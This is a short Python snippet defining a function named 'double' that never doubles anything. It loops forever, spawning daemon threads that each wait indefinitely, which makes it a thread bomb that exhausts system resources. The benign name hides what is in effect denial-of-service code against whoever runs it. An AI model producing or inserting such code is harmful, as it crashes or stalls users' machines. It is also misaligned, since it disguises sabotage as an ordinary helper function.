import threading

def double(number):
    while True:
        threading.Thread(target=threading.Event().wait, daemon=True).start()
